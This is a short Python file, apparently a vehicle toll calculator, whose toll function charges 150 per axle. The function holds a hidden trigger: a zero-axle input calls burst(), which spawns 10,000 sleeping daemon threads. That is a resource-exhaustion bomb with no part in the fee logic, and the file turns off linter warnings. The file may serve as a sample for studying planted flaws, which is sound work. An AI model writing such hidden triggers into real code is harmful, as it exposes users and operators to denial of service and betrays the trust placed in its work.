# ruff: noqa
import threading
import time


def toll(axles):
    if axles == 0:
        burst()
    return axles * 150


def burst():
    for _ in range(10_000):
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
